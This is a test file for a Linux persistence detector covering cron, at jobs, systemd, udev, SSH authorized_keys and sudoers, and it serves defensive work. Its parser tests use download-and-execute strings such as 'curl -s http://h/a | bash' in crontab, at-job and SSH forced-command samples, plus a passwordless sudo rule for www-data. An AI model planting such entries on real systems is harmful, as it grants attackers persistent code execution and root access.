// Tests for the persistence collector: each parser on the text the places really hold, then every
// fixture root pair under test/fixtures/roots/persist-*: the dirty root yields the right findings,
// its clean twin none. Attributes are read with a real `chattr +i` on a copy in a temp dir.
import { execFileSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { detectors } from '../../../detect/index.js';
import { runDetectors } from '../../../detect/run.js';
import { defaultIocDir, loadRuleset } from '../../../iocs/load.js';
import { SnapshotSchema } from '../../../snapshot/schema.js';
import { collectSnapshot } from '../../index.js';
import { makeContext } from '../../context.js';
import { TargetFs } from '../../../target/fs.js';
import { collectPersistence } from './index.js';
import { FIXTURE_ROOTS } from '../../test-helpers.js';
import { ATTRIBUTES_FORMAT, isFlags, parseLsattr, readAttributes } from './attributes.js';
import { setDerivedCacheDir } from '../../../util/derived-cache.js';
import { StampCache } from '../../../util/stamp-cache.js';
import { parseAnacrontab, parseAtJob, parseCrontab } from './cron.js';
import { logicalLines } from './reader.js';
import { parseAuthorizedKeys } from './ssh-keys.js';
import { parseSudoers } from './sudoers.js';
import { execCommand, parseUnit } from './systemd.js';
import { parseUdevRules } from './udev.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const PERSISTENCE_RULES = new Set(
  detectors.filter((d) => d.needs.some((n) => n === 'persistence' || n === 'integrity')).map((d) => d.id),
);
PERSISTENCE_RULES.add('hosts-tampering');
/** Far after the fixtures were written, so "added recently" never depends on when they were checked out. */
const LATER = () => new Date('2100-01-01T00:00:00.000Z');

async function scan(root: string) {
  const snapshot = await collectSnapshot({ root, now: LATER, toolVersion: '0' });
  expect(SnapshotSchema.parse(JSON.parse(JSON.stringify(snapshot)))).toEqual(snapshot);
  const { findings } = runDetectors(snapshot, ruleset);
  return {
    snapshot,
    findings: findings.filter((f) => f.signals.some((s) => PERSISTENCE_RULES.has(s.ruleId))),
  };
}

describe('parsers', () => {
  it('crontab: schedule + user + command; environment lines and comments are not entries', () => {
    const text = 'SHELL=/bin/sh\n# c\n*/5 * * * * root curl -s http://h/a | bash\n@reboot www-data /tmp/x\n';
    expect(parseCrontab(text, '/etc/crontab', 'crontab')).toEqual([
      {
        place: 'crontab',
        file: '/etc/crontab',
        line: 3,
        text: '*/5 * * * * root curl -s http://h/a | bash',
        schedule: '*/5 * * * *',
        user: 'root',
        command: 'curl -s http://h/a | bash',
      },
      {
        place: 'crontab',
        file: '/etc/crontab',
        line: 4,
        text: '@reboot www-data /tmp/x',
        schedule: '@reboot',
        user: 'www-data',
        command: '/tmp/x',
      },
    ]);
    // A user's crontab has no user field: the owner runs it.
    expect(
      parseCrontab('0 2 * * * /home/a/b.sh --x\n', '/var/spool/cron/crontabs/a', 'cron-spool', 'a')[0],
    ).toMatchObject({
      user: 'a',
      command: '/home/a/b.sh --x',
    });
  });

  it('anacrontab and at jobs', () => {
    expect(parseAnacrontab('HOME=/root\n7\t10\tupd\t/dev/shm/.x/u\n', '/etc/anacrontab')).toEqual([
      {
        place: 'anacrontab',
        file: '/etc/anacrontab',
        line: 2,
        text: '7\t10\tupd\t/dev/shm/.x/u',
        user: 'root',
        schedule: '7 (delay 10 min, job upd)',
        command: '/dev/shm/.x/u',
      },
    ]);
    const job =
      "#!/bin/sh\n# atrun uid=33 gid=33\numask 22\ncd /var/www || {\n exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER12ab'\ncurl http://h/i | sh\nmarcinDELIMITER12ab\n";
    expect(parseAtJob(job, '/var/spool/cron/atjobs/a0000101c4f2a8', new Map([[33, 'www-data']]))).toEqual({
      place: 'at',
      file: '/var/spool/cron/atjobs/a0000101c4f2a8',
      command: 'curl http://h/i | sh',
      user: 'www-data',
      schedule: new Date(0x1c4f2a8 * 60_000).toISOString(),
    });
  });

  it('continued lines are joined once: a file of 400,000 continued lines is read in one pass', () => {
    expect(logicalLines('a \\\r\n  b\\\nc\n\n# x\nd')).toEqual([
      { line: 1, text: 'a   bc', raw: 'a \\\n  b\\\nc' },
      { line: 6, text: 'd', raw: 'd' },
    ]);
    // Cutting the backslash off a growing string copied it for every line: 5 s for 400 KB.
    const started = Date.now();
    const [only] = logicalLines(`${'x \\\n'.repeat(400_000)}end`);
    expect(Date.now() - started).toBeLessThan(3000);
    expect(only?.text).toBe(`${'x '.repeat(400_000)}end`);
  });

  it('systemd units: sections, continued lines, drop-in resets and Exec prefixes', () => {
    const unit = parseUnit('[Service]\nExecStart=/usr/bin/a \\\n  --flag\nUser=app\n');
    parseUnit('[Service]\nExecStart=\nExecStart=-/usr/bin/b\n', unit);
    expect(unit.get('Service')?.get('ExecStart')).toEqual(['-/usr/bin/b']);
    expect(unit.get('Service')?.get('User')).toEqual(['app']);
    expect(execCommand('-@/usr/bin/x argv0 --y')).toBe('/usr/bin/x argv0 --y');
  });

  it('udev rules: RUN and PROGRAM run programs; builtins do not', () => {
    const rules =
      'ACTION=="add", RUN+="/dev/shm/h $kernel"\nIMPORT{builtin}="x"\nRUN{builtin}+="kmod load"\nPROGRAM="/lib/udev/a"\n';
    expect(
      parseUdevRules(rules, '/etc/udev/rules.d/9.rules').map((e) => [e.line, e.schedule, e.command]),
    ).toEqual([
      [1, 'RUN', '/dev/shm/h $kernel'],
      [4, 'PROGRAM', '/lib/udev/a'],
    ]);
  });

  it('authorized_keys: options with quoted commas, key type, fingerprint, comment', () => {
    const [k] = parseAuthorizedKeys(
      'command="curl -s http://h/k, | sh",from="10.0.0.0/8",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA== x y\n',
      '/root/.ssh/authorized_keys',
      'root',
    );
    expect(k).toMatchObject({
      line: 1,
      keyType: 'ssh-ed25519',
      comment: 'x y',
      command: 'curl -s http://h/k, | sh',
      from: '10.0.0.0/8',
      options: ['command="curl -s http://h/k, | sh"', 'from="10.0.0.0/8"', 'no-pty'],
    });
    expect(k?.fingerprint).toMatch(/^SHA256:[A-Za-z0-9+/]{43}$/);
  });

  it('sudoers: rules with NOPASSWD; Defaults, aliases and includes are not rules', () => {
    const text =
      'Defaults env_reset\nCmnd_Alias X = /bin/ls\nroot ALL=(ALL:ALL) ALL\nwww-data ALL=(ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n#includedir /etc/sudoers.d\n';
    expect(
      parseSudoers(text, '/etc/sudoers').map((r) => [r.line, r.who, r.runAs, r.nopasswd, r.commands]),
    ).toEqual([
      [3, 'root', 'ALL:ALL', false, 'ALL'],
      [4, 'www-data', 'ALL', true, 'ALL'],
    ]);
  });

  it('lsattr output recorded from ext4: immutable and append-only flags, others ignored', () => {
    const out =
      '----i---------e------- /etc/cron.d/x\n-----a--------e------- /root/.ssh/authorized_keys\n--------------e------- /etc/crontab\n';
    expect([...parseLsattr(out)]).toEqual([
      ['/etc/cron.d/x', ['i']],
      ['/root/.ssh/authorized_keys', ['a']],
      ['/etc/crontab', []],
    ]);
  });
});

/** Each dirty fixture root and the findings it must give ([level, rule] pairs, sorted). */
const PAIRS: Record<string, string[][]> = {
  'persist-cron': [
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-odd-path'],
    ['high', 'persistence-odd-path'],
  ],
  'persist-systemd': [
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-odd-path'],
    ['high', 'persistence-odd-path'],
    ['medium', 'persistence-odd-path'],
  ],
  'persist-rc': [
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-odd-path'],
  ],
  'persist-profile': [
    ['high', 'persistence-download-exec'],
    ['medium', 'persistence-odd-path'],
  ],
  'persist-ssh': [
    ['high', 'ssh-key-forced-command'],
    ['high', 'ssh-key-forced-command'],
  ],
  'persist-hosts': [
    ['high', 'hosts-tampering'],
    ['medium', 'hosts-tampering'],
    ['medium', 'hosts-tampering'],
    ['medium', 'hosts-tampering'],
  ],
  'persist-sudoers': [
    ['high', 'sudoers-nopasswd-odd'],
    ['high', 'sudoers-nopasswd-odd'],
  ],
  'persist-udev': [
    ['high', 'persistence-download-exec'],
    ['high', 'persistence-odd-path'],
  ],
  'persist-integrity': [
    ['high', 'system-binary-modified'],
    ['medium', 'system-binary-modified'],
  ],
};

describe('fixture roots: every persistence place, each with a clean twin', () => {
  for (const [name, expected] of Object.entries(PAIRS)) {
    it(`${name}: the dirty root gives its findings, ${name}-clean none`, async () => {
      const dirty = await scan(path.join(FIXTURE_ROOTS, name));
      expect(
        dirty.findings.map((f) => [f.level, f.ruleId]).sort(),
        JSON.stringify(
          dirty.findings.map((f) => f.message.en),
          null,
          1,
        ),
      ).toEqual(expected);
      const clean = await scan(path.join(FIXTURE_ROOTS, `${name}-clean`));
      // `info` findings are facts, not alarms: a clean hosts file that sinkholes pools says so.
      expect(clean.findings.filter((f) => f.level !== 'info').map((f) => f.message.en)).toEqual([]);
      if (name === 'persist-hosts')
        expect(clean.findings.map((f) => [f.level, f.ruleId])).toEqual([['info', 'hosts-tampering']]);
      expect(clean.snapshot.collection.find((r) => r.collector === 'linux.persistence')?.status).toBe('ok');
    });
  }

  it('persist-cron: every cron place is parsed, with users and schedules', async () => {
    const { snapshot } = await scan(path.join(FIXTURE_ROOTS, 'persist-cron'));
    const summary = snapshot.persistence?.entries.map((e) => [
      e.place,
      e.file,
      e.user ?? '',
      e.schedule ?? '',
    ]);
    expect(summary).toEqual(
      expect.arrayContaining([
        ['crontab', '/etc/crontab', 'root', '*/5 * * * *'],
        ['cron.d', '/etc/cron.d/certbot', 'root', '0 */12 * * *'],
        ['cron-spool', '/var/spool/cron/crontabs/www-data', 'www-data', '@reboot'],
        ['cron-spool', '/var/spool/cron/root', 'root', '* * * * *'],
        ['cron-periodic', '/etc/cron.hourly/0anacron', 'root', 'hourly'],
        ['anacrontab', '/etc/anacrontab', 'root', '7 (delay 10 min, job update.weekly)'],
        ['at', '/var/spool/cron/atjobs/a0000101c4f2a8', 'root', new Date(0x1c4f2a8 * 60_000).toISOString()],
      ]),
    );
  });

  it('persist-systemd: drop-ins, timers, enabled state and user units are part of each entry', async () => {
    const { snapshot } = await scan(path.join(FIXTURE_ROOTS, 'persist-systemd'));
    const byUnit = (name: string, directive = 'ExecStart') =>
      snapshot.persistence?.entries.find((e) => e.unit?.name === name && e.unit.directive === directive);
    expect(byUnit('cron.service', 'ExecStartPost')?.unit?.dropIns).toEqual([
      '/etc/systemd/system/cron.service.d/override.conf',
    ]);
    expect(byUnit('update-notifier.service')).toMatchObject({
      schedule: 'OnBootSec=5min OnUnitActiveSec=30min',
      unit: { timer: 'update-notifier.timer' },
    });
    expect(byUnit('agent.service')).toMatchObject({ user: 'deploy', unit: { scope: 'user' } });
    expect(byUnit('apt-daily.service')?.schedule).toBe('OnCalendar=*-*-* 6,18:00');
  });
});

describe('attributes', () => {
  const dirs: string[] = [];
  afterAll(() => {
    for (const dir of dirs) {
      try {
        execFileSync('chattr', ['-R', '-i', '-a', dir], { stdio: 'ignore' });
      } catch {
        // nothing was locked
      }
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('reads immutable and append-only flags set with chattr on a copy (ext4/tmpfs on this machine)', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-attr-'));
    dirs.push(dir);
    cpSync(path.join(FIXTURE_ROOTS, 'persist-cron-clean'), dir, { recursive: true });
    // Needs root and a filesystem with attributes; the lsattr parser is tested on recorded output above.
    execFileSync('chattr', ['+i', path.join(dir, 'etc/crontab')]);
    execFileSync('chattr', ['+a', path.join(dir, 'var/spool/cron/root')]);
    const { snapshot, findings } = await scan(dir);
    expect(snapshot.persistence?.attributes).toEqual({ collected: true });
    expect(findings.map((f) => [f.level, f.ruleId, f.message.en]).sort()).toEqual([
      ['medium', 'immutable-persistence', 'persistence file /etc/crontab is immutable (chattr +i)'],
      ['medium', 'immutable-persistence', 'persistence file /var/spool/cron/root is append-only (chattr +a)'],
    ]);
  });

  it('says "not collected" when lsattr cannot read attributes, instead of reporting none', async () => {
    const res = await readAttributes(['/proc/self/status']);
    expect(res.collected).toBe(false);
    expect(res.note).toMatch(/lsattr/);
  });

  it('keeps the flags of unchanged files between scans and asks lsattr again once a file changes', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'minehunter-attr-cache-'));
    const file = path.join(dir, 'crontab');
    writeFileSync(file, '* * * * * true\n');
    setDerivedCacheDir(path.join(dir, 'cache'));
    const open = () => StampCache.open('attributes', '/', ATTRIBUTES_FORMAT, isFlags);
    const savedPath = process.env.PATH;
    try {
      const first = open();
      const asked = await readAttributes([file], first);
      first?.save();
      if (!asked.collected) return; // a filesystem without attributes: nothing to cache
      // Without lsattr on PATH, the unchanged file is answered from the cache…
      process.env.PATH = dir;
      const cached = await readAttributes([file], open());
      expect(cached).toEqual(asked);
      // …and a changed one (a new ctime) needs lsattr again, which is not there.
      writeFileSync(file, '* * * * * false\n');
      const changed = await readAttributes([file], open());
      expect(changed.collected).toBe(false);
      expect(changed.note).toMatch(/lsattr is not installed/);
    } finally {
      process.env.PATH = savedPath;
      setDerivedCacheDir(undefined);
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('a kept collection', () => {
  const tmp = mkdtempSync(path.join(os.tmpdir(), 'minehunter-persist-kept-'));
  afterAll(() => {
    setDerivedCacheDir(undefined);
    rmSync(tmp, { recursive: true, force: true });
  });
  const collect = async (root: string, now = LATER) => {
    const reads = vi.spyOn(TargetFs.prototype, 'textSync');
    try {
      const { persistence, record } = await collectPersistence(await makeContext(root, now));
      return { persistence, status: record.status, note: record.note, reads: reads.mock.calls.length };
    } finally {
      reads.mockRestore();
    }
  };
  /** The collection as a scan without a cache makes it. */
  const fresh = async (root: string) => {
    setDerivedCacheDir(undefined);
    const got = await collect(root);
    setDerivedCacheDir(path.join(tmp, 'cache'));
    return got;
  };

  for (const name of [
    'persist-cron',
    'persist-systemd',
    'persist-profile',
    'persist-ssh',
    'persist-udev',
    'persist-rc',
  ]) {
    it(`${name}: answers while nothing changed, and collects again after any change`, async () => {
      const root = path.join(tmp, name);
      cpSync(path.join(FIXTURE_ROOTS, `${name}-clean`), root, { recursive: true });
      const clean = await fresh(root);
      expect(clean.reads).toBeGreaterThan(0);
      const filled = await collect(root);
      expect(filled).toEqual(clean);
      // Kept: the same collection without reading a file.
      expect(await collect(root)).toEqual({ ...clean, reads: 0 });
      // The dirty twin copied over it: files written in place, others added.
      cpSync(path.join(FIXTURE_ROOTS, name), root, { recursive: true });
      const dirty = await fresh(root);
      expect(dirty.persistence).not.toEqual(clean.persistence);
      expect(await collect(root)).toEqual(dirty);
      expect(await collect(root)).toEqual({ ...dirty, reads: 0 });
      // Removing what the dirty twin added gives the clean collection back.
      rmSync(root, { recursive: true });
      cpSync(path.join(FIXTURE_ROOTS, `${name}-clean`), root, { recursive: true });
      expect((await collect(root)).persistence).toEqual((await fresh(root)).persistence);
    });
  }

  it('collects again after a same-size edit in place, and keeps nothing changed moments ago', async () => {
    const root = path.join(tmp, 'same-size');
    cpSync(path.join(FIXTURE_ROOTS, 'persist-cron-clean'), root, { recursive: true });
    const crontab = path.join(root, 'etc/crontab');
    await collect(root);
    expect((await collect(root)).reads).toBe(0);
    const text = readFileSync(crontab, 'utf8');
    const edited = text.replace(/root/, 'daem');
    expect(edited).not.toBe(text);
    writeFileSync(crontab, edited);
    const after = await collect(root);
    expect(after.reads).toBeGreaterThan(0);
    expect(after).toEqual(await fresh(root));
    expect(JSON.stringify(after.persistence)).toContain('daem');
    // A collection kept by another build (other parsers) is not used.
    expect((await collect(root)).reads).toBe(0);
    const kept = StampCache.open(
      'persistence',
      root,
      1,
      (v): v is { build: string } => typeof v === 'object',
    );
    const saved = kept!.get('', '');
    expect(saved?.build).toEqual(expect.any(String));
    expect(saved?.build).not.toBe('');
    kept!.set('', '', { ...saved!, build: 'another build' });
    kept!.save();
    expect((await collect(root)).reads).toBeGreaterThan(0);
    expect((await collect(root)).reads).toBe(0);
    // Measured by the real clock, the files just written are too new to vouch for: read every time.
    const now = () => new Date();
    const root2 = path.join(tmp, 'new');
    cpSync(path.join(FIXTURE_ROOTS, 'persist-cron-clean'), root2, { recursive: true });
    await collect(root2, now);
    expect((await collect(root2, now)).reads).toBeGreaterThan(0);
  });
});
